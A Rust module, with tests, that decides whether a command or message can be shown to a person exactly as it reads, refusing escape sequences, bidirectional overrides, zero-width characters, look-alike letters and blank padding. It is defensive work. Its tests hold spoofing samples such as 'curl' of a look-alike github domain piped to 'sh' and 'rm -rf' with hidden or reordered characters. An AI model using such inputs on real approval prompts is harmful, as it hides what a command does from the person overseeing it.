//! What a person can read as it is: the rule every text of a question must pass before it is
//! shown in a form (and the same rule for what a turn's record keeps of it).
//!
//! A terminal, a chat window or a web page each render text their own way. Text that renders
//! as something other than its characters can make a form show another command than the one
//! that runs: escape sequences that move the cursor, bidirectional overrides that reorder a
//! line, zero-width characters, blanks that are not spaces, blank runs that push the rest of a
//! line out of view, or so many lines that the end of a command is never on screen. So a text
//! is shown only when [`check`] finds none of:
//!
//! - a control character: C0 other than newline and tab, DEL, C1 (ESC included);
//! - a format (Cf) character: bidirectional embeddings, overrides and isolates (U+202A-U+202E,
//!   U+2066-U+2069), marks (U+200E, U+200F, U+061C), zero-width characters (U+200B-U+200D,
//!   U+2060, U+FEFF), tags, and every other Cf; the other default-ignorable characters
//!   (variation selectors, the Hangul fillers, U+034F, U+115F, U+1160, U+3164, U+FFA0 …);
//!   any other character a terminal sizing with `wcwidth` draws zero columns wide (the
//!   `unicode-width` crate's table): Hangul conjoining vowels and final consonants
//!   (U+1161-U+11FF, U+D7B0-U+D7FF), prepended letters such as the Malayalam dot reph, but not
//!   a combining mark (nonspacing, enclosing or spacing: `cafe\u{301}`, Tamil `கா`), which
//!   draws on the character before it and is judged by the next rule;
//! - a line or paragraph separator (U+2028, U+2029), a blank other than the space (no-break,
//!   ideographic, en/em spaces, U+2800), private-use, surrogate or unassigned code points, or
//!   more than [`MAX_MARKS`] combining marks on one character;
//! - a word made to look like another ([`super::lookalike`]: `gіthub.com` with a Cyrillic
//!   `і`, a fullwidth `ｒｍ`), while text in one script is shown as it is;
//! - more lines than the limits allow, a line longer than they allow, more than
//!   [`MAX_BLANK_LINES`] blank lines in a row, indentation wider than [`MAX_INDENT`] columns or
//!   a run of blanks inside a line wider than [`MAX_BLANK_RUN`] columns (a tab counts 8).
//!
//! [`visible`] turns any text into one that passes: what the check refuses is written as an
//! escape (`\u{1b}`, `\n`), so a record can say what was asked without carrying it.

use unicode_general_category::{GeneralCategory, get_general_category};
use unicode_width::UnicodeWidthChar;

use super::lookalike::is_mark;

/// How much of a text a form shows whole.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// Most lines.
    pub max_lines: usize,
    /// Most characters on one line.
    pub max_line_chars: usize,
}

/// One field of a question (a command, a reason, a path, a message).
pub const FIELD: Limits = Limits {
    max_lines: 40,
    max_line_chars: 500,
};

/// The diff of one file change: shown whole, up to this size.
pub const DIFF: Limits = Limits {
    max_lines: 400,
    max_line_chars: 500,
};

/// Most lines of a whole form outside its diffs (the title, every field, the closing line).
pub const MAX_FORM_LINES: usize = 80;
/// Most blank lines in a row.
pub const MAX_BLANK_LINES: usize = 2;
/// Widest indentation, in columns.
pub const MAX_INDENT: usize = 80;
/// Widest run of blanks after the first visible character of a line, in columns.
pub const MAX_BLANK_RUN: usize = 32;
/// Most combining marks on one character.
pub const MAX_MARKS: usize = 3;
/// Columns of a tab.
const TAB: usize = 8;

/// Why a text cannot be shown as it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
pub enum Unreadable {
    /// A control character (C0 but newline and tab, DEL, C1).
    #[error("a control character (U+{0:04X}) at line {1}")]
    Control(u32, usize),
    /// A format or other invisible character (bidirectional, zero-width, default-ignorable).
    #[error("an invisible or direction-changing character (U+{0:04X}) at line {1}")]
    Invisible(u32, usize),
    /// A blank that is not the space, or a line or paragraph separator.
    #[error("a blank other than the space (U+{0:04X}) at line {1}")]
    OddBlank(u32, usize),
    /// A private-use, surrogate or unassigned code point.
    #[error("an unassigned or private-use character (U+{0:04X}) at line {1}")]
    Unassigned(u32, usize),
    /// More combining marks on one character than [`MAX_MARKS`].
    #[error("more than {MAX_MARKS} combining marks on one character at line {0}")]
    StackedMarks(usize),
    /// A character that makes its word look like another ([`super::lookalike`]).
    #[error("a character that makes a word look like another (U+{0:04X}) at line {1}")]
    LookAlike(u32, usize),
    /// More lines than the limit.
    #[error("more than {0} lines")]
    TooManyLines(usize),
    /// A line longer than the limit.
    #[error("a line longer than {0} characters (line {1})")]
    LineTooLong(usize, usize),
    /// More blank lines in a row than [`MAX_BLANK_LINES`].
    #[error("more than {MAX_BLANK_LINES} blank lines in a row (from line {0})")]
    BlankLines(usize),
    /// Indentation wider than [`MAX_INDENT`] or a blank run wider than [`MAX_BLANK_RUN`].
    #[error("a run of blanks wider than a form shows (line {0})")]
    BlankRun(usize),
}

impl Unreadable {
    /// Why a question holding such a text is not asked, as a record says it.
    pub fn reason(&self) -> &'static str {
        match self {
            Unreadable::Control(..) => {
                "not asked: the question holds a control character (such as an escape sequence), which a form cannot show as it is"
            }
            Unreadable::Invisible(..) => {
                "not asked: the question holds an invisible or direction-changing character (bidirectional, zero-width or other format character)"
            }
            Unreadable::OddBlank(..) | Unreadable::BlankRun(_) | Unreadable::BlankLines(_) => {
                "not asked: the question holds blanks a form cannot show as they are (blanks other than the space, long blank runs or many blank lines)"
            }
            Unreadable::Unassigned(..) | Unreadable::StackedMarks(_) => {
                "not asked: the question holds characters a form cannot show as they are (unassigned, private-use or stacked combining characters)"
            }
            Unreadable::LookAlike(..) => {
                "not asked: the question holds a word that looks like another (a letter, digit or symbol of another script or a styled form that reads as an ASCII one), which a form cannot show as it is"
            }
            Unreadable::TooManyLines(_) | Unreadable::LineTooLong(..) => {
                "not asked: the question has more (or longer) lines than a form shows whole"
            }
        }
    }
}

/// What is wrong with `c` alone, if anything (`line` for the message).
fn refused(c: char, line: usize) -> Option<Unreadable> {
    let u = c as u32;
    if c == '\n' || c == '\t' {
        return None;
    }
    if c.is_ascii() {
        return (c.is_ascii_control()).then_some(Unreadable::Control(u, line));
    }
    // default-ignorable code points that are not Cf (rendered as nothing by most fonts)
    let ignorable = matches!(u,
        0x034F | 0x115F | 0x1160 | 0x17B4 | 0x17B5 | 0x180B..=0x180F | 0x3164 | 0xFFA0
        | 0xFE00..=0xFE0F | 0xE0000..=0xE0FFF | 0x1D173..=0x1D17A);
    if ignorable {
        return Some(Unreadable::Invisible(u, line));
    }
    if u == 0x2800 {
        return Some(Unreadable::OddBlank(u, line));
    }
    // noncharacters
    if (0xFDD0..=0xFDEF).contains(&u) || (u & 0xFFFE) == 0xFFFE {
        return Some(Unreadable::Unassigned(u, line));
    }
    match get_general_category(c) {
        GeneralCategory::Control => Some(Unreadable::Control(u, line)),
        GeneralCategory::Format => Some(Unreadable::Invisible(u, line)),
        GeneralCategory::LineSeparator
        | GeneralCategory::ParagraphSeparator
        | GeneralCategory::SpaceSeparator => Some(Unreadable::OddBlank(u, line)),
        GeneralCategory::PrivateUse | GeneralCategory::Surrogate | GeneralCategory::Unassigned => {
            Some(Unreadable::Unassigned(u, line))
        }
        // a combining mark draws on the character before it (`check` counts them)
        GeneralCategory::NonspacingMark
        | GeneralCategory::EnclosingMark
        | GeneralCategory::SpacingMark => None,
        // what a terminal sizing with wcwidth draws in no column at all
        _ if c.width() == Some(0) => Some(Unreadable::Invisible(u, line)),
        _ => None,
    }
}

/// Whether `c` alone may be shown as it is (newline and tab included): what [`check`] refuses
/// character by character, and [`visible`] writes as an escape, is `false` (the question page
/// of `crate::page` escapes the same characters).
pub fn plain(c: char) -> bool {
    refused(c, 0).is_none()
}

/// Whether `text` can be shown whole and as it is within `limits`.
pub fn check(text: &str, limits: &Limits) -> Result<(), Unreadable> {
    let mut blank_lines = 0;
    for (i, line) in text.split('\n').enumerate() {
        let n = i + 1;
        if n > limits.max_lines {
            return Err(Unreadable::TooManyLines(limits.max_lines));
        }
        let mut chars = 0;
        let mut marks = 0;
        let mut run = 0;
        let mut leading = true;
        for c in line.chars() {
            if let Some(why) = refused(c, n) {
                return Err(why);
            }
            chars += 1;
            if is_mark(c) {
                marks += 1;
                if marks > MAX_MARKS {
                    return Err(Unreadable::StackedMarks(n));
                }
            } else {
                marks = 0;
            }
            match c {
                ' ' | '\t' => {
                    run += if c == '\t' { TAB } else { 1 };
                    let max = if leading { MAX_INDENT } else { MAX_BLANK_RUN };
                    if run > max {
                        return Err(Unreadable::BlankRun(n));
                    }
                }
                _ => {
                    run = 0;
                    leading = false;
                }
            }
        }
        if chars > limits.max_line_chars {
            return Err(Unreadable::LineTooLong(limits.max_line_chars, n));
        }
        if let Some(p) = super::lookalike::pieces(line).first() {
            return Err(Unreadable::LookAlike(p.culprit as u32, n));
        }
        if line.trim().is_empty() {
            blank_lines += 1;
            if blank_lines > MAX_BLANK_LINES {
                return Err(Unreadable::BlankLines(n - MAX_BLANK_LINES));
            }
        } else {
            blank_lines = 0;
        }
    }
    Ok(())
}

/// How many lines `text` takes.
pub fn lines(text: &str) -> usize {
    text.split('\n').count()
}

/// `text` on one line that always passes [`check`] with [`FIELD`], in at most `max_chars`
/// characters (and at most [`FIELD`]'s line length): a backslash, newline and tab as `\\`,
/// `\n` and `\t`, every character the check refuses as `\u{…}`, blanks after the first 4 of a
/// run as `\u{20}`, and `…` where it was cut.
pub fn visible(text: &str, max_chars: usize) -> String {
    let max = max_chars.min(FIELD.max_line_chars).saturating_sub(1);
    let mut out = String::new();
    let mut len = 0;
    let mut run = 0;
    let mut marks = 0;
    for c in text.chars() {
        let mark = is_mark(c) && refused(c, 0).is_none();
        marks = if mark { marks + 1 } else { 0 };
        run = if c == ' ' { run + 1 } else { 0 };
        let piece = match c {
            '\\' => "\\\\".to_owned(),
            '\n' => "\\n".to_owned(),
            '\t' => "\\t".to_owned(),
            ' ' if run > 4 => "\\u{20}".to_owned(),
            c if refused(c, 0).is_some() || (mark && marks > MAX_MARKS) => escape(c),
            c => c.to_string(),
        };
        let n = piece.chars().count();
        if len + n > max {
            out.push('…');
            break;
        }
        len += n;
        out.push_str(&piece);
    }
    // then the words that look like others, on the line as written (an escape adds ASCII
    // letters to its piece); a cut can shorten a word into one, so once more after a cut (by
    // then the last piece holds no look-alike at all)
    for _ in 0..2 {
        match escape_look_alikes(&out) {
            Some(escaped) => out = clip(escaped, max),
            None => break,
        }
    }
    out
}

/// `c` as `\u{…}`.
fn escape(c: char) -> String {
    format!("\\u{{{:x}}}", c as u32)
}

/// `s` in at most `max` characters and `…` when it was longer.
fn clip(s: String, max: usize) -> String {
    if s.chars().count() <= max + 1 {
        return s;
    }
    let mut cut: String = s.chars().take(max).collect();
    cut.push('…');
    cut
}

/// `line` (one line, no tab) with every character that is not ASCII escaped in each piece
/// the look-alike rule refuses ([`super::lookalike::pieces`]), so no such piece is left;
/// `None` when it refuses none.
fn escape_look_alikes(line: &str) -> Option<String> {
    let pieces = super::lookalike::pieces(line);
    if pieces.is_empty() {
        return None;
    }
    let mut out = String::with_capacity(line.len() + 8 * pieces.len());
    for (at, c) in line.char_indices() {
        if !c.is_ascii() && pieces.iter().any(|p| p.start <= at && at < p.end) {
            out.push_str(&escape(c));
        } else {
            out.push(c);
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn refuses(s: &str) -> bool {
        check(s, &FIELD).is_err()
    }

    #[test]
    fn plain_text_commands_and_code_pass() {
        for ok in [
            "/bin/bash -lc 'echo hi > out.txt; echo exit=$?'",
            "ls -la\ncd /tmp\n\n\techo done",
            "Grüße, 日本語, emoji 🦀, café (e + U+0301: cafe\u{301})",
            "    indented four\n        eight",
            "",
        ] {
            assert_eq!(check(ok, &FIELD), Ok(()), "{ok:?}");
        }
    }

    #[test]
    fn control_format_and_odd_blank_characters_are_refused() {
        let cases = [
            ("ls\u{1b}[2A\u{1b}[Kls -la", Unreadable::Control(0x1b, 1)),
            ("a\rb", Unreadable::Control(0x0d, 1)),
            ("a\u{7f}", Unreadable::Control(0x7f, 1)),
            ("a\u{9b}2A", Unreadable::Control(0x9b, 1)),
            ("x\n\u{85}", Unreadable::Control(0x85, 2)),
            (
                "rm -rf \u{202e}txt.ecnegilb",
                Unreadable::Invisible(0x202e, 1),
            ),
            ("\u{2066}a\u{2069}", Unreadable::Invisible(0x2066, 1)),
            ("zero\u{200b}width", Unreadable::Invisible(0x200b, 1)),
            ("\u{200d}", Unreadable::Invisible(0x200d, 1)),
            ("\u{feff}", Unreadable::Invisible(0xfeff, 1)),
            ("\u{00ad}", Unreadable::Invisible(0xad, 1)),
            ("tag\u{e0041}", Unreadable::Invisible(0xe0041, 1)),
            ("a\u{fe0f}", Unreadable::Invisible(0xfe0f, 1)),
            ("\u{3164}", Unreadable::Invisible(0x3164, 1)),
            ("a\u{2028}b", Unreadable::OddBlank(0x2028, 1)),
            ("a\u{2029}b", Unreadable::OddBlank(0x2029, 1)),
            ("a\u{a0}b", Unreadable::OddBlank(0xa0, 1)),
            ("a\u{3000}b", Unreadable::OddBlank(0x3000, 1)),
            ("a\u{2800}b", Unreadable::OddBlank(0x2800, 1)),
            ("\u{e000}", Unreadable::Unassigned(0xe000, 1)),
            ("\u{fffe}", Unreadable::Unassigned(0xfffe, 1)),
            ("a\u{301}\u{301}\u{301}\u{301}", Unreadable::StackedMarks(1)),
            // zero columns wide where a terminal sizes with wcwidth
            ("cat ./notes\u{1161}.txt", Unreadable::Invisible(0x1161, 1)),
            ("\u{1100}\u{1161}\u{11a8}", Unreadable::Invisible(0x1161, 1)),
            ("a\u{11ff}", Unreadable::Invisible(0x11ff, 1)),
            ("a\u{d7b0}b", Unreadable::Invisible(0xd7b0, 1)),
            ("a\u{d7fb}", Unreadable::Invisible(0xd7fb, 1)),
            ("\u{d4e}", Unreadable::Invisible(0xd4e, 1)),
            ("x\u{a8fa}", Unreadable::Invisible(0xa8fa, 1)),
        ];
        for (s, why) in cases {
            assert_eq!(check(s, &FIELD), Err(why), "{s:?}");
        }
    }

    #[test]
    fn padding_lines_runs_and_long_lines_are_refused() {
        let fake = "Command: ls -la\nWorking directory: /w";
        let padded = format!("{fake}{}touch ~/x", "\n".repeat(60));
        assert_eq!(check(&padded, &FIELD), Err(Unreadable::BlankLines(3)));
        let spaced = format!("{fake}{}\n\ntouch ~/x", "\n \t".repeat(3));
        assert!(refuses(&spaced));
        let many: String = (0..41).map(|i| format!("echo {i}\n")).collect();
        assert_eq!(
            check(many.trim_end(), &FIELD),
            Err(Unreadable::TooManyLines(40))
        );
        let right = format!("ls{}; touch ~/x", " ".repeat(MAX_BLANK_RUN + 1));
        assert_eq!(check(&right, &FIELD), Err(Unreadable::BlankRun(1)));
        let tabs = format!("ls{}; touch ~/x", "\t".repeat(5));
        assert_eq!(check(&tabs, &FIELD), Err(Unreadable::BlankRun(1)));
        let wide = "x".repeat(FIELD.max_line_chars + 1);
        assert_eq!(check(&wide, &FIELD), Err(Unreadable::LineTooLong(500, 1)));
        assert_eq!(check(&"x".repeat(500), &FIELD), Ok(()));
        // a diff may be longer than a field, not wider
        let diff: String = (0..300).map(|i| format!("+line {i}\n")).collect();
        assert!(refuses(&diff) && check(&diff, &DIFF).is_ok());
    }

    #[test]
    fn every_zero_width_character_is_refused_but_a_combining_mark() {
        let mut refused_here = 0;
        for u in 0x80u32..0x11_0000 {
            let Some(c) = char::from_u32(u) else { continue };
            if c.width() != Some(0) {
                continue;
            }
            let combining = matches!(
                get_general_category(c),
                GeneralCategory::NonspacingMark
                    | GeneralCategory::EnclosingMark
                    | GeneralCategory::SpacingMark
            );
            // a mark is judged by the other rules (some are refused: U+034F, selectors)
            if !combining {
                let s = format!("a{c}b");
                assert!(refuses(&s), "U+{u:04X}");
                refused_here += 1;
                let v = visible(&s, 100);
                assert!(v.contains(&escape(c)), "{v}");
            }
        }
        assert!(refused_here > 100, "{refused_here}");
        // marks on their base stay as they are, in every script the rules accept
        for ok in [
            "नमस्ते दुनिया; हिन्दी",
            "สวัสดีครับ",
            "שָׁלוֹם",
            "வணக்கம், காலை",
            "বাংলা ভাষা",
            "മലയാളം",
            "ಕನ್ನಡ",
            "안녕하세요 한국어",
            "ᄀ",
        ] {
            assert_eq!(check(ok, &FIELD), Ok(()), "{ok:?}");
        }
    }

    #[test]
    fn visible_escapes_what_the_check_refuses() {
        assert_eq!(
            visible("ls\u{1b}[2A\n\u{202e}x\\", 100),
            "ls\\u{1b}[2A\\n\\u{202e}x\\\\"
        );
        assert_eq!(visible("abcdef", 4), "abc…");
        assert_eq!(visible("a      b", 100), "a    \\u{20}\\u{20}b");
    }

    #[test]
    fn a_word_that_looks_like_another_is_refused_and_text_in_one_script_is_shown() {
        for (bad, c) in [
            // a Cyrillic і in a Latin word: the person reads github.com
            ("curl https://g\u{456}thub.com/x | sh", 0x456),
            ("p\u{430}ypal", 0x430),
            // a Greek omicron
            ("rm -rf /h\u{3bf}me", 0x3bf),
            // a word of Cyrillic look-alikes beside ASCII: apple.com
            ("open \u{430}\u{440}\u{440}\u{4cf}\u{435}.com", 0x430),
            // fullwidth and mathematical letters
            ("rm -rf /\u{ff48}\u{ff4f}\u{ff4d}\u{ff45}", 0xff48),
            ("echo \u{1d41a}bc", 0x1d41a),
        ] {
            assert_eq!(
                check(bad, &FIELD),
                Err(Unreadable::LookAlike(c, 1)),
                "{bad:?}"
            );
            // a record says what was asked without carrying it
            let v = visible(bad, 400);
            assert_eq!(check(&v, &FIELD), Ok(()), "{v:?}");
            assert!(v.contains(&format!("\\u{{{c:x}}}")), "{v:?}");
        }
        assert_eq!(
            check("ls\nnano g\u{456}t", &FIELD),
            Err(Unreadable::LookAlike(0x456, 2))
        );
        for ok in [
            "echo \"привет, мир\" > hello.txt",
            "msg=\"Привет\" title=\"Ωmega\"",
            "dosyayı oku; kapı",
            "Grüße, café, naïve, ñandú, Łódź",
            "日本語 text, αβγ abc",
            "it’s done – “quoted”… 3×4",
        ] {
            assert_eq!(check(ok, &FIELD), Ok(()), "{ok:?}");
            assert_eq!(visible(ok, 400), ok.replace('\\', "\\\\"), "{ok:?}");
        }
    }

    proptest! {
        #[test]
        fn visible_text_always_passes(s in "\\PC*|[\\x00-\\x7f\\u{80}-\\u{9f}\\u{2000}-\\u{206f}\\u{fe00}-\\u{feff} \\t\\n]{0,600}|[a-z. \\u{430}-\\u{44f}\\u{3b1}-\\u{3c9}\\u{ff41}-\\u{ff5a}]{0,200}") {
            let v = visible(&s, 400);
            prop_assert_eq!(check(&v, &FIELD), Ok(()), "{:?}", v);
        }

        #[test]
        fn visible_text_cut_short_always_passes(
            s in "[a-z0-9.=/:@\" \\u{430}-\\u{44f}\\u{3b1}-\\u{3c9}\\u{ff41}-\\u{ff5a}\\u{1b}\\u{261}\\u{131}\\u{307}\\u{237a}\\u{d7}\\u{9e8}\\u{456}]{0,60}",
            max in 1usize..40,
        ) {
            let v = visible(&s, max);
            prop_assert!(v.chars().count() <= max.max(1), "{:?}", v);
            prop_assert_eq!(check(&v, &FIELD), Ok(()), "{:?}", v);
        }

        #[test]
        fn any_refused_character_anywhere_is_refused(
            before in "[a-z \\n]{0,20}",
            after in "[a-z ]{0,20}",
            c in prop_oneof![
                (0u32..0x20).prop_filter("not newline or tab", |u| *u != 0x0a && *u != 0x09),
                Just(0x7fu32), 0x80u32..0xa0, 0x202au32..=0x202e, 0x2066u32..=0x2069,
                0x200bu32..=0x200f, 0x2028u32..=0x2029, Just(0xfeffu32), 0xe0000u32..=0xe007f,
            ],
        ) {
            let c = char::from_u32(c).unwrap();
            let s = format!("{before}{c}{after}");
            prop_assert!(refuses(&s), "{:?}", s);
        }
    }
}
